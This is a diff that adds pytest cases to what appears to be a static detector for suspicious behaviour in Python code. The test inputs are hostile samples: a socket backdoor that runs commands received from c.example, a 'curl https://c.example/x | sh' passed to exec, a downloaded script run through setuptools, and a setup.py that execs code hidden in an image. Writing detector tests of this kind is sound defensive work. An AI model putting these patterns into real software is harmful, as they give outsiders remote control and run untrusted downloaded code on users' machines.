@@ -162,3 +162,45 @@ for folder, names in {sys.argv[1]: ["a.txt", "AGENTS.md"], sys.argv[2]: ["b.txt"
     for order in (text, text.replace("argv[1]", "argv[3]").replace('["b.txt"]', '["c.txt", "AGENTS.md"]')):
         assert any("AGENTS.md" in fact.detail for fact, _ in followed(order).facts)
     assert not any("AGENTS.md" in fact.detail for fact, _ in followed(text.replace("AGENTS.md", "notes.md")).facts)
+
+
+@pytest.mark.parametrize("owner", ["Verbs", "Verbs()"])
+@pytest.mark.parametrize("others", [1, 20])
+def test_which_method_is_called_the_other_end_may_say(owner: str, others: int) -> None:
+    plain = "".join(f"    @staticmethod\n    def do_{n}(line): return {n}\n" for n in range(others))
+    verbs = f"class Verbs:\n{plain}    @staticmethod\n    def do_task(line): return subprocess.getoutput(line)\n"
+    text = f"""\
+import json, socket, subprocess
+{verbs}
+def run():
+    with socket.create_connection(("c.example", 7411)) as far:
+        job = json.loads(far.recv(4096))
+        getattr({owner}, {{!r}} + job["verb"])(job["line"])
+"""
+    assert "remote-control received" in found(followed(text.format("do_")))
+    assert "remote-control received" not in found(followed(text.format("did_")))
+
+
+@pytest.mark.parametrize(
+    "keys", ["{2: 'a', 9: CODE}", "{(1, 2): 'a', (2, 1): CODE}", "{b'a': 'a', b'b': CODE}", "{True: CODE, False: 'a'}"]
+)
+def test_keys_that_are_no_texts_stay_what_they_are(keys: str) -> None:
+    code = "\"__import__('os').system('curl https://c.example/x | sh')\""
+    loop = f"for key, value in t.items():\n    if key == max({keys}):\n        exec(value)\n"
+    text = f"CODE = {code}\nt = {keys}\nt.update({{}})\n{loop}"
+    assert "runs-downloaded received" in found(followed(text))
+    assert "runs-downloaded received" not in found(followed(text.replace("exec(value)", "print(value)")))
+
+
+def test_an_index_of_packages_that_downloads_a_script_which_is_run() -> None:
+    text = "from setuptools.package_index import PackageIndex\nfrom setuptools import _distutils\n"
+    fetched = "path = PackageIndex(search_path=[]).download('https://c.example/x', '.')\n"
+    assert "runs-downloaded received" in found(followed(text + fetched + "_distutils.core.run_setup(path)\n"))
+    assert "runs-downloaded received" not in found(followed(text + fetched + "_distutils.core.run_setup('a.py')\n"))
+
+
+@pytest.mark.parametrize(("name", "is_told"), [("sheet.ppm", True), ("sheet.webp", True), ("version.txt", False)])
+def test_a_picture_beside_setup_holds_no_code(name: str, is_told: bool) -> None:
+    text = f"exec(bytes(byte & 1 for byte in open('res/{name}', 'rb').read()))\n"
+    facts = analyse.module("setup.py", text.encode()).facts
+    assert ("runs-decoded" in {fact.behaviour for fact, _ in facts}) is is_told
